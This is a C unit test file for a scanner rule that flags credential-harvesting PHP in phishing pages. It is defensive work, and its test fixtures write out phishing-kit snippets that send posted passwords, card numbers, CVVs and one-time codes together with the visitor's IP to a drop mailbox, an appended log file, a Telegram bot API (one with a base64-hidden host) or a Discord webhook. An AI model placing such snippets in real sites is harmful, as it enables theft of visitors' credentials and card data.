/* The PHP layer's credential-exfiltration sink (php.credential_exfil):
 * fields named for a password, a card or a one-time code reaching mail to a
 * fixed or configured address, a file opened to append, or a messenger's bot
 * API; and the look-alikes of real sites that must stay quiet. Every snippet
 * is written here from the technique, not taken from a kit. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan/php_eval.h"

static struct php_result res;

static const struct php_hit *run(const char *src)
{
	php_result_free(&res);
	php_eval((const unsigned char *)src, strlen(src), false, NULL, &res);
	for (size_t i = 0; i < res.nhits; i++)
		if (!strcmp(res.hits[i].rule, "php.credential_exfil"))
			return &res.hits[i];
	return NULL;
}

static void expect(const char *src, enum hs_severity sev)
{
	const struct php_hit *h = run(src);
	if (!h || h->sev != sev) {
		fprintf(stderr, "want php.credential_exfil at %d in: %s\n", (int)sev, src);
		for (size_t i = 0; i < res.nhits; i++)
			fprintf(stderr, "  got %s (%d): %s\n", res.hits[i].rule,
			        (int)res.hits[i].sev, res.hits[i].evidence);
	}
	assert_non_null(h);
	assert_int_equal(h->sev, sev);
}

static void quiet(const char *src)
{
	const struct php_hit *h = run(src);
	if (h)
		fprintf(stderr, "unexpected: %s\n  in: %s\n", h->evidence, src);
	assert_null(h);
}

static void test_mail_channel(void **state)
{
	(void)state;
	/* fixed drop box + the visitor's address: critical */
	expect(
	    "<?php $ip = $_SERVER['REMOTE_ADDR'];\n"
	    "$m = \"Email: \" . $_POST['email'] . \"\\nPassword: \" . $_POST['passwd'] . \"\\nIP: "
	    "$ip\";\n"
	    "mail('drop@example.net', 'new log', $m); header('Location: https://bank.example/');",
	    HS_SEV_CRITICAL);
	/* through variables, interpolation and sprintf; recipient from a config file */
	expect("<?php include 'config.php'; $u = trim($_POST['login']); $p = $_POST['userPass'];\n"
	       "$ua = $_SERVER['HTTP_USER_AGENT'];\n"
	       "$msg = sprintf(\"%s / %s / %s\", $u, \"{$p}\", $ua); mail($to, 'x', $msg);",
	       HS_SEV_HIGH);
	/* the address folded from pieces still counts as fixed */
	expect("<?php $to = 'dr' . 'op@exam' . 'ple.org'; $g = getenv('REMOTE_ADDR');\n"
	       "$a = array('CVV: ' . $_POST['cvv2'], 'IP: ' . $g); mail($to, 's', implode(\"\\n\", "
	       "$a));",
	       HS_SEV_CRITICAL);
	/* no fingerprint, configured address: suspicious only */
	expect("<?php mail($owner, 'pin', 'PIN ' . $_POST['atm_pin']);", HS_SEV_MEDIUM);
	/* every field of the form, whatever its name: medium (form mailers do it) */
	expect("<?php $m = ''; foreach ($_POST as $k => $v) { $m .= \"$k: $v\\n\"; }\n"
	       "mail('x@example.com', 'form', $m . $_SERVER['REMOTE_ADDR']);",
	       HS_SEV_MEDIUM);
}

static void test_file_and_messenger_channels(void **state)
{
	(void)state;
	expect(
	    "<?php $f = fopen('../rez/cc.txt', 'a'); $ip = $_SERVER['REMOTE_ADDR'];\n"
	    "fwrite($f, $_POST['ccnum'] . '|' . $_POST['exp'] . '|' . $ip . \"\\n\"); fclose($f);",
	    HS_SEV_HIGH);
	expect("<?php file_put_contents('log.txt', 'otp=' . $_POST['otp'] . ' ' . "
	       "gethostbyaddr($_SERVER['REMOTE_ADDR']), FILE_APPEND);",
	       HS_SEV_HIGH);
	expect("<?php $t = '1:AA'; $ip = $_SERVER['REMOTE_ADDR'];\n"
	       "$text = 'user ' . $_POST['email'] . ' pass ' . $_POST['password'] . ' ip ' . $ip;\n"
	       "file_get_contents('https://api.telegram.org/bot' . $t . "
	       "'/sendMessage?chat_id=1&text=' "
	       ". urlencode($text));",
	       HS_SEV_CRITICAL);
	/* curl: the URL set on the handle, the data in POSTFIELDS, the API host folded */
	expect(
	    "<?php $h = curl_init(base64_decode('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdA==') . $k . "
	    "'/sendMessage');\n"
	    "curl_setopt($h, CURLOPT_POSTFIELDS, array('chat_id' => $c, 'text' => 'pwd: ' . "
	    "$_REQUEST['pwd']));\ncurl_exec($h);",
	    HS_SEV_HIGH);
	expect(
	    "<?php $c = curl_init('https://discord.com/api/webhooks/1/abc');\n"
	    "curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(array('content' => $_POST['pass'] . "
	    "$_SERVER['REMOTE_ADDR'])));",
	    HS_SEV_CRITICAL);
}

/* Real sites' forms that handle passwords, cards and the visitor's address. */
static void test_real_sites_are_quiet(void **state)
{
	(void)state;
	/* a login that verifies a hash and logs the failure (not the password) */
	quiet("<?php $u = $_POST['username']; $p = $_POST['password'];\n"
	      "if (password_verify($p, $row['hash'])) { header('Location: /home'); exit; }\n"
	      "$f = fopen('auth.log', 'a'); fwrite($f, 'failed ' . $u . ' ' . "
	      "$_SERVER['REMOTE_ADDR']);");
	/* a contact form mails its owner, with the sender's IP */
	quiet("<?php $b = 'From ' . $_POST['name'] . ' <' . $_POST['email'] . '>: ' . "
	      "$_POST['message']"
	      " . ' IP ' . $_SERVER['REMOTE_ADDR']; mail('info@example.com', 'contact', $b);");
	/* a card posted to the payment gateway's API, not to a messenger */
	quiet("<?php $ch = curl_init('https://api.gateway.example/v1/charges');\n"
	      "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('number' => "
	      "$_POST['cardnumber'], 'cvc' => $_POST['cvc']))); curl_exec($ch);");
	/* an installer writes the posted database password into its config file */
	quiet("<?php file_put_contents('config.php', \"<?php \\$db_pass = '\" . $_POST['dbpass'] . "
	      "\"';\", LOCK_EX);");
	/* registration: the hash is stored, the user is mailed at the address given */
	quiet("<?php $e = $_POST['email']; $h = password_hash($_POST['password'], "
	      "PASSWORD_DEFAULT);\n"
	      "mail($e, 'Welcome', 'Your account ' . $_POST['username'] . ' is ready');");
	/* the hash of the password is not the password */
	quiet("<?php mail('admin@example.com', 'x', md5($_POST['password']));");
	/* a password-named field sent to the address the visitor typed */
	quiet("<?php mail($_POST['email'], 'Your new PIN', 'PIN: ' . $_POST['pin']);");
	/* an order bot: no credential field */
	quiet(
	    "<?php file_get_contents('https://api.telegram.org/bot' . $t . '/sendMessage?text=' . "
	    "urlencode($_POST['name'] . ' ' . $_POST['phone'] . $_SERVER['REMOTE_ADDR']));");
	/* "shipping", "footprint", "spinner": no credential hidden in a longer word */
	quiet("<?php mail('a@example.com', 's', $_POST['shipping'] . $_POST['footprint'] . "
	      "$_POST['spinner'] . $_SERVER['REMOTE_ADDR']);");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_mail_channel),
	    cmocka_unit_test(test_file_and_messenger_channels),
	    cmocka_unit_test(test_real_sites_are_quiet),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
